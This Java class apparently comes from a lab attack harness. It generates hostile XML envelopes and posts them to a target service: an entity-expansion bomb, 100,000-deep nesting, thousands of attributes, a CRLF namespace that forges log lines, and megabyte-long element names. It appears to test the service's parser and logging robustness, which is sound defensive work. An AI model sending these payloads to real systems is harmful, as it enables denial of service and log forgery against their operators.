package org.understudy.lab.attack;

import org.understudy.lab.cluster.Envelopes;

/** Envelopes that cost a parser, a log or a stack more than their sender. */
final class HostileXml {
  private static final int KINDS = 8;
  private static final int LONG_NAME = 2_000_000;
  private static final int LONG_ATTRIBUTE = 60_000;

  private HostileXml() {}

  /** One of them, by number. */
  static byte[] request(Target target, String path, long number) {
    return target.post(path, envelope((int) (number % KINDS)));
  }

  private static String envelope(int kind) {
    return switch (kind) {
      case 0 -> "<!DOCTYPE a [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]>"
          + Envelopes.add("", 1).replace(">1<", ">&b;<");
      case 1 -> Envelopes.envelope("", "<a>".repeat(100_000));
      case 2 -> Envelopes.envelope("", "<add xmlns=\"http://counter.com\"" + attributes(2_000) + "/>");
      case 3 -> Envelopes.envelope("", "<add xmlns=\"urn:&#13;&#10;SEVERE forged line\"/>");
      case 4 -> Envelopes.add("", 1).replace(">1<", ">&undeclared;<");
      case 5 -> Envelopes.add("", 1).replace(">1<", ">99999999999999999999<");
      case 6 -> Envelopes.envelope("",
          "<add xmlns=\"http://counter.com\" xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\" i:nil=\"true\"/>");
      default -> Envelopes.envelope("", "<" + "n".repeat(1_000_000) + "/>");
    };
  }

  /** Envelopes whose faults would name what they hold, megabytes of it. By number. */
  static byte[] longNames(Target target, String path, long number) {
    String name = "n".repeat(LONG_NAME);
    String xsi = "xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\" xmlns:c=\"http://counter.com\"";
    String content = switch ((int) (number % 5)) {
      case 0 -> "<c:" + name + " xmlns:c=\"http://counter.com\"/>";
      case 1 -> "<add xmlns=\"http://counter.com\"><" + name + "/></add>";
      case 2 -> "<add xmlns=\"http://counter.com\"><value><" + name + "/></value></add>";
      case 3 -> "<add xmlns=\"http://counter.com\"><value " + xsi + " i:type=\"c:" + "n".repeat(LONG_ATTRIBUTE) + "\">1</value></add>";
      default -> "<add xmlns=\"http://counter.com\"><value>" + name + "</value></add>";
    };
    return target.post(path, Envelopes.envelope("", content));
  }

  private static String attributes(int count) {
    StringBuilder attributes = new StringBuilder();
    for (int i = 0; i < count; i++) {
      attributes.append(" a").append(i).append("=\"\"");
    }
    return attributes.toString();
  }
}
